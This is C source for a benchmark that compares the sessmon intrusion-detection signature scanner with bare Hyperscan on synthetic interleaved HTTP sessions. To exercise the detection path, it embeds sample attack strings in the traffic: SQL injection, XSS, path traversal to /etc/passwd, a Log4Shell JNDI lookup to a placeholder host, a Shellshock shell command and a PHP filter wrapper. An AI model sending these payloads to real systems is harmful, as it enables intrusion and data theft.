/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * bench_sig: what sessmon's signature path costs beside bare Hyperscan.
 *
 *   bench_sig [-m MIB] [-s SESSIONS] [-l split|combined] [-c CACHE_DIR] [-t TOP] RULES
 *
 * Builds MIB MiB (default 8) of HTTP-like text (requests from the
 * originator, responses with HTML bodies from the responder), spreads it
 * over SESSIONS sessions (default 256), cuts each direction into 1460-byte
 * segments and feeds the segments round-robin over the sessions, as
 * interleaved traffic arrives. One request in 50 carries an attack string
 * (SQL injection, XSS, traversal, Log4Shell, Shellshock, a PHP wrapper).
 * Two loops scan the same bytes in the same order with the same databases
 * and scratch:
 *
 *   bare  hs_open_stream / hs_scan_stream / hs_close_stream per direction,
 *         a match callback that counts;
 *   sig   sm_sig_scan() per segment and sm_sig_stop() per direction: lazy
 *         open, offset tracking, the per-match port/flow filter, hit
 *         counters and the caller's callback (which counts).
 *
 * Each loop runs RUNS times, alternating which goes first; the median TSC
 * cycles per byte and MB/s of each are printed, then the median of the
 * per-run ratios sig/bare (and the ratio of the medians), as "name value"
 * lines. The TSC rate is calibrated against CLOCK_MONOTONIC over the runs.
 * With -t, `diagnose ips signature stat` text follows, TOP rules by hits.
 */
#include <getopt.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <rte_cycles.h>

#include "sessmon/rules.h"
#include "sessmon/sig.h"

#define RUNS 5
#define SEG 1460u

struct session {
	struct sm_sig_flow flow;
	const uint8_t *data[SM_DIR_MAX];
	uint32_t len[SM_DIR_MAX];
	hs_stream_t *hs[SM_DIR_MAX];
	struct sm_sig_dir dir[SM_DIR_MAX];
};

struct bench {
	struct session *s;
	unsigned int n;
	uint32_t max_segs;
	uint64_t bytes;
	struct sm_ruleset *rs;
	hs_scratch_t *scratch;
	struct sm_sig_worker *w;
};

/* A deterministic pseudo-random sequence (xorshift), so runs compare. */
static uint32_t
next_rand(uint32_t *s)
{
	*s ^= *s << 13;
	*s ^= *s >> 17;
	*s ^= *s << 5;
	return *s;
}

static const char *const words[] = {
	"the", "session", "table", "index", "product", "search", "account", "profile",
	"order", "cart", "image", "news", "article", "comment", "user", "settings", "about",
	"contact", "service", "report", "download", "gallery", "video", "category", "help",
};

static const char *
word(uint32_t *seed)
{
	return words[next_rand(seed) % SM_ARRAY_SIZE(words)];
}

/* Append printf text to @p b (capacity @p cap), as far as it fits; the
 * terminating NUL is not counted (a cut text ends at cap - 1). */
static size_t
put(char *b, size_t len, size_t cap, const char *fmt, ...)
{
	va_list ap;
	int n;

	if (len >= cap)
		return len;
	va_start(ap, fmt);
	n = vsnprintf(b + len, cap - len, fmt, ap);
	va_end(ap);
	return n < 0 ? len : len + (size_t)n < cap ? len + (size_t)n : cap - 1;
}

/* Attack strings one request in ATTACK_EVERY carries, so that matches, the
 * filter and the callbacks are part of the measurement. */
static const char *const attacks[] = {
	"1%27%20union%20select%20password%20from%20users--", "<script>alert(1)</script>",
	"../../../../etc/passwd", "${jndi:ldap://203.0.113.7/a}", "() { :;}; /bin/sh -c id",
	"php://filter/convert.base64-encode/resource=index",
};
#define ATTACK_EVERY 50

static size_t
request(char *b, size_t len, size_t cap, uint32_t *seed)
{
	uint32_t r = next_rand(seed);

	len = put(b, len, cap, "GET /%s/%s.php?%s=%s&%s=%s HTTP/1.1\r\nHost: www.%s.example\r\n",
		  word(seed), word(seed), word(seed),
		  r % ATTACK_EVERY == 0 ? attacks[(r / ATTACK_EVERY) % SM_ARRAY_SIZE(attacks)] :
					  word(seed),
		  word(seed), word(seed), word(seed));
	len = put(b, len, cap, "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) "
		  "Gecko/20100101 Firefox/115.0\r\nAccept: text/html,application/xhtml+xml\r\n"
		  "Accept-Language: en-US,en;q=0.5\r\nCookie: sid=%08x%08x; %s=%s\r\n\r\n",
		  next_rand(seed), next_rand(seed), word(seed), word(seed));
	return len;
}

static size_t
response(char *b, size_t len, size_t cap, uint32_t *seed)
{
	unsigned int n = 40 + next_rand(seed) % 400;

	len = put(b, len, cap, "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html; "
		  "charset=utf-8\r\nContent-Length: %u\r\n\r\n<html><body><h1>%s</h1><p>",
		  n * 8, word(seed));
	for (unsigned int i = 0; i < n; i++)
		len = put(b, len, cap, "%s ", word(seed));
	return put(b, len, cap, "</p><a href=\"/%s/%s\">%s</a></body></html>\n", word(seed),
		   word(seed), word(seed));
}

static uint8_t *
payload(struct bench *bn, size_t mib)
{
	size_t total = mib << 20, per = total / bn->n / SM_DIR_MAX, off = 0;
	uint8_t *buf = malloc(total + 1);
	uint32_t seed = 2463534242u;

	if (buf == NULL)
		return NULL;
	for (unsigned int i = 0; i < bn->n; i++) {
		struct session *s = &bn->s[i];

		s->flow.proto = 6;
		s->flow.port[SM_DIR_ORIG] = (uint16_t)(32768 + i);
		s->flow.port[SM_DIR_REPLY] = 80;
		for (int d = 0; d < SM_DIR_MAX; d++) {
			size_t len = 0;

			while (len + 1 < per)
				len = d == SM_DIR_ORIG ? request((char *)buf + off, len, per, &seed) :
							 response((char *)buf + off, len, per, &seed);
			s->data[d] = buf + off;
			s->len[d] = (uint32_t)len;
			off += len;
			bn->bytes += len;
			if ((len + SEG - 1) / SEG > bn->max_segs)
				bn->max_segs = (uint32_t)((len + SEG - 1) / SEG);
		}
	}
	return buf;
}

static int
count_hs(unsigned int id, unsigned long long from, unsigned long long to, unsigned int flags,
	 void *ctx)
{
	(void)id;
	(void)from;
	(void)to;
	(void)flags;
	(*(uint64_t *)ctx)++;
	return 0;
}

static void
count_sig(void *arg, const struct sm_sig_match *m)
{
	(void)m;
	(*(uint64_t *)arg)++;
}

/* One segment: @p off, @p len of direction @p d; @p first and @p last say
 * whether it opens or ends the direction. */
typedef void (*seg_fn)(struct bench *bn, struct session *s, int d, uint32_t off, uint32_t len,
		       bool first, bool last, uint64_t *matches);

static void
seg_bare(struct bench *bn, struct session *s, int d, uint32_t off, uint32_t len, bool first,
	 bool last, uint64_t *matches)
{
	if (bn->rs->db[d] == NULL)
		return;
	if (first)
		hs_open_stream(bn->rs->db[d], 0, &s->hs[d]);
	hs_scan_stream(s->hs[d], (const char *)s->data[d] + off, len, 0, bn->scratch, count_hs,
		       matches);
	if (last)
		hs_close_stream(s->hs[d], bn->scratch, count_hs, matches);
}

static void
seg_sig(struct bench *bn, struct session *s, int d, uint32_t off, uint32_t len, bool first,
	bool last, uint64_t *matches)
{
	if (first)
		sm_sig_dir_init(&s->dir[d]);
	sm_sig_scan(bn->w, &s->dir[d], &s->flow, d, off, s->data[d] + off, len, count_sig,
		    matches);
	if (last)
		sm_sig_stop(bn->w, &s->dir[d], &s->flow, d, SM_SIG_STOP_SESSION_END, count_sig,
			    matches);
}

/* Every segment, round-robin over the sessions, as interleaved traffic. */
static uint64_t
run(struct bench *bn, seg_fn fn)
{
	uint64_t matches = 0;

	for (uint32_t k = 0; k < bn->max_segs; k++) {
		for (unsigned int i = 0; i < bn->n; i++) {
			struct session *s = &bn->s[i];

			for (int d = 0; d < SM_DIR_MAX; d++) {
				uint32_t off = k * SEG, len;

				if (off >= s->len[d])
					continue;
				len = s->len[d] - off < SEG ? s->len[d] - off : SEG;
				fn(bn, s, d, off, len, k == 0, off + len == s->len[d], &matches);
			}
		}
	}
	return matches;
}

static int
cmp_double(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return (x > y) - (x < y);
}

static double
median(double *v)
{
	qsort(v, RUNS, sizeof(*v), cmp_double);
	return v[RUNS / 2];
}

static double
now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec * 1e9 + (double)ts.tv_nsec;
}

static int
setup(struct bench *bn, const char *rules, enum sm_rules_layout layout, const char *cache)
{
	struct sm_rules_source src = {rules, NULL, 0};
	struct sm_rules_params p = {
		.src = &src, .n_src = 1, .workers = 1, .layout = layout, .cache_dir = cache,
	};
	struct sm_sig_params sp = {.id = 0};
	struct sm_rules_report rep;
	hs_scratch_t *proto = NULL;

	bn->rs = sm_rules_load(&p, &rep);
	printf("rules_loaded %u\nrules_rejected %u\ndb_bytes %zu\n", rep.loaded, rep.rejected,
	       rep.db_bytes);
	printf("stream_bytes_orig %zu\nstream_bytes_reply %zu\ncompile_ms %.0f%s\n",
	       rep.stream_bytes[0], rep.stream_bytes[1], rep.compile_ms,
	       rep.cache_hit ? " (cache)" : "");
	sm_rules_report_fini(&rep);
	if (bn->rs == NULL || sm_sig_scratch_grow(&proto, bn->rs) != 0)
		return -1;
	bn->scratch = sm_sig_scratch_clone(proto);
	sp.rs = bn->rs;
	sp.scratch = sm_sig_scratch_clone(proto);
	hs_free_scratch(proto);
	bn->w = sm_sig_worker_create(&sp);
	return bn->w == NULL || bn->scratch == NULL ? -1 : 0;
}

int
main(int argc, char **argv)
{
	struct bench bn = {.n = 256};
	enum sm_rules_layout layout = SM_RULES_LAYOUT_SPLIT;
	const char *cache = NULL;
	double cyc[2][RUNS], mbs[2][RUNS], pair[RUNS], med[2], ns_total = 0, cyc_total = 0;
	uint64_t m[2] = {0, 0};
	size_t mib = 8;
	unsigned int top = 0;
	uint8_t *buf;
	int opt;

	while ((opt = getopt(argc, argv, "m:s:l:c:t:")) != -1) {
		if (opt == 'm')
			mib = strtoul(optarg, NULL, 10);
		else if (opt == 's')
			bn.n = (unsigned int)strtoul(optarg, NULL, 10);
		else if (opt == 'l')
			layout = strcmp(optarg, "combined") == 0 ? SM_RULES_LAYOUT_COMBINED :
								   SM_RULES_LAYOUT_SPLIT;
		else if (opt == 'c')
			cache = optarg;
		else if (opt == 't')
			top = (unsigned int)strtoul(optarg, NULL, 10);
		else
			break;
	}
	if (optind != argc - 1 || mib == 0 || bn.n == 0) {
		fprintf(stderr, "usage: %s [-m MIB] [-s SESSIONS] [-l split|combined] "
			"[-c CACHE_DIR] [-t TOP] RULES\n", argv[0]);
		return 2;
	}
	bn.s = calloc(bn.n, sizeof(*bn.s));
	if (bn.s == NULL || setup(&bn, argv[optind], layout, cache) != 0) {
		fprintf(stderr, "bench_sig: cannot set up (rules or memory)\n");
		return 1;
	}
	buf = payload(&bn, mib);
	if (buf == NULL)
		return 1;
	printf("layout %s\npayload_bytes %" PRIu64 "\nsessions %u\n",
	       layout == SM_RULES_LAYOUT_SPLIT ? "split" : "combined", bn.bytes, bn.n);
	for (int r = 0; r < RUNS; r++) {
		/* Which loop goes first alternates, so neither always finds the
		 * caches the other left. */
		for (int j = 0; j < 2; j++) {
			int k = (r + j) % 2;
			double t0 = now_ns();
			uint64_t c0 = rte_rdtsc();

			m[k] = run(&bn, k == 0 ? seg_bare : seg_sig);
			cyc[k][r] = (double)(rte_rdtsc() - c0);
			ns_total += now_ns() - t0;
			cyc_total += cyc[k][r];
			mbs[k][r] = (double)bn.bytes / ((cyc[k][r]) / 1e3);
		}
	}
	/* The two loops of a run ran back to back, under the same load from
	 * the rest of the machine: their ratio is steadier than either figure. */
	for (int r = 0; r < RUNS; r++)
		pair[r] = cyc[1][r] / cyc[0][r];
	/* MB/s from cycles and the TSC rate measured over all runs. */
	for (int k = 0; k < 2; k++) {
		const char *name = k == 0 ? "bare" : "sig";

		med[k] = median(cyc[k]);
		printf("%s_cycles_per_byte %.3f\n%s_MBps %.0f\n%s_matches %" PRIu64 "\n", name,
		       med[k] / (double)bn.bytes, name, median(mbs[k]) * cyc_total / ns_total, name,
		       m[k]);
	}
	printf("ratio_sig_over_bare %.3f\nratio_of_medians %.3f\n", median(pair), med[1] / med[0]);
	if (top > 0)
		sm_rules_write_stat(bn.rs, top, stdout);
	sm_sig_worker_free(bn.w);
	hs_free_scratch(bn.scratch);
	sm_ruleset_free(bn.rs);
	free(buf);
	free(bn.s);
	return 0;
}
